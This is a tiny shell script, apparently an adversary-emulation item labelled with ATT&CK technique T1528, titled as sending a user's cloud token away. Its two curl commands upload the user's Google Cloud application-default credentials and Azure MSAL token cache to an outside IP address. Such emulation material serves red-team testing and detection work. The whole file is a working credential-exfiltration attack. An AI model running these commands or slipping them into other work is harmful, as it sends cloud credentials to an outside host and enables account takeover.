# title: A user's token for a cloud is sent away
# technique: T1528
# needs: curl
# as: user

curl -s -T ~/.config/gcloud/application_default_credentials.json http://192.88.99.7/u
curl -s --data-binary @"$HOME/.azure/msal_token_cache.json" http://192.88.99.7/u
